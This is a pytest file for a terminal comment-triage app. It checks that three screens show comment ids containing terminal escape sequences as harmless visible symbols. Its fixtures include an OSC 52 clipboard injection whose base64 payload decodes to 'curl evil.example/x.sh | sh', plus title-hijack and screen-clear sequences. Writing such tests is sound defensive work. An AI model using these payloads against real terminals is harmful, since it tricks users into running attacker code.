"""The escalate form, the Legal screen and the approvals screen draw hostile ids inert.

The store already holds a comment whose id, platform and account carry escape sequences
(written through ``Store.ingest``, past the checks at the edge).
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from textual.app import App

from tests.factories import FLU_POST, NOW, make_comment
from tests.outbox.conftest import write_templates
from tests.tui.conftest import make_app
from triage.config import Config, parse_config
from triage.legal import escalate
from triage.outbox import submit_reply
from triage.store import Store
from triage.templates import load_library
from tui.approvals_screen import ApprovalsScreen
from tui.escalate_form import EscalateForm
from tui.legal_screen import LegalScreen

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNo\x07"
TITLE = "\x1b]2;owned\x07"
CLEAR = "\x1b[2J"
HOSTILE_ID = f"c-{CLIPBOARD}{CLEAR}"
#: On a configured account, so that a reply to it can be written.
REPLIABLE_ID = f"r-{TITLE}{CLIPBOARD}"
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def drawn(app: App[None]) -> str:
    """The text of every cell on the screen, run by run, as the terminal would get it."""
    svg = app.export_screenshot()
    runs = re.findall(r"<text [^>]*>([^<]*)</text>", svg)
    return "".join(html.unescape(run).replace("\xa0", " ") for run in runs)


def assert_inert(app: App[None]) -> None:
    screen = drawn(app)
    assert RAW.findall(screen) == []
    messages = [n.message for n in app._notifications]
    assert all(RAW.findall(m) == [] for m in messages), messages


@pytest.fixture
def config(tmp_path: Path) -> Config:
    folder = write_templates(tmp_path / "templates")
    return parse_config(f'[replies]\ntemplates_dir = "{folder}"\n[org]\nname = "Riverside"\n'
                        '[[team]]\nname = "ana"\nroles = ["agent", "approver", "legal"]\n'
                        '[[accounts]]\nname = "riverside-fb"\nplatform = "facebook"\n'
                        'token_env = "TRIAGE_TEST_FB_TOKEN"\npage_id = "104"\n')


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    comment = make_comment(HOSTILE_ID, "When do you open?", minutes_ago=1,
                           platform=f"facebook{TITLE}", account=f"acct{CLIPBOARD}")
    comment = replace(comment, permalink=f"https://example.org/{TITLE}", native_id="1")
    repliable = replace(make_comment(REPLIABLE_ID, "Is it free?", minutes_ago=2),
                        native_id="104_2")
    with Store(tmp_path / "data") as opened:
        opened.ingest([comment, repliable], [FLU_POST], user="test")
        yield opened


async def test_the_escalate_form_shows_a_hostile_id_inert(store: Store, config: Config) -> None:
    app = make_app(store, config=config)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("e")
        assert isinstance(app.screen, EscalateForm)
        await pilot.pause()
        assert "c-␛]52;c;" in drawn(app)
        assert_inert(app)


async def test_the_legal_screen_shows_hostile_ids_inert(store: Store, config: Config) -> None:
    escalate(store, config, "ana", HOSTILE_ID, "other")
    app = make_app(store, config=config)
    async with app.run_test(size=(160, 40)) as pilot:
        await pilot.press("L")
        assert isinstance(app.screen, LegalScreen)
        await pilot.pause()
        screen = drawn(app)
        assert "c-␛]52;c;" in screen and "facebook␛]2;owned␇" in screen
        await pilot.press("r")  # the release picker names the platform too
        await pilot.pause()
        assert "␛]2;owned␇" in drawn(app)
        assert_inert(app)


async def test_the_approvals_screen_shows_hostile_ids_inert(store: Store, config: Config) -> None:
    library = load_library(config, today=NOW.date())
    submit_reply(store, config, "ana", REPLIABLE_ID, library=library, template_id=None,
                 text="We hear you.", now=NOW, window=0)
    app = make_app(store, config=config)
    async with app.run_test(size=(160, 40)) as pilot:
        await pilot.press("A")
        assert isinstance(app.screen, ApprovalsScreen)
        await pilot.pause()
        assert "r-␛]2;owned␇␛]52;c;" in drawn(app)
        assert_inert(app)
